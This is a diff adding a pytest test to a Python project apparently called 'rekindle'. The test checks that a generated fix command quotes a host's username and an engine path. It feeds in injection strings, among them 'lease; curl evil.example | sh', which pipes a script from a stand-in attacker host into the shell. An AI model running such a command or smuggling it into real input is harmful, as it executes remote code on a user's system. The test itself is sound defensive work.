@@ -6,6 +6,7 @@ import pytest
 from msgspec.structs import replace
 
 from rekindle.jobs import NoRunError, archive_of, foresee, load_job, prepare
+from rekindle.jobs.containers import _lack
 from rekindle.records import (
     Container,
     Engine,
@@ -126,3 +127,12 @@ def test_an_image_is_no_option(job, image):
 
 def test_the_archive_of_an_image_is_a_plain_file():
     assert archive_of(IMAGE) == "nvcr.io-nvidia-clara-bionemo-framework-2.5.tar"
+
+
+@pytest.mark.parametrize("engine", [DEAD, DENIED, UNMAPPED])
+def test_what_a_host_says_of_its_user_and_its_engine_is_one_word_of_a_command(recordings, engine):
+    user, path = "lease; curl evil.example | sh", "/x; y"
+    host = replace(read(recordings / "h200-x2/host.json", HostRecord), user=user)
+    fix = _lack(replace(engine, path=path), host).fix
+    assert user not in fix.replace(f"'{user}'", "")
+    assert path not in fix.replace(f"'{path}'", "")
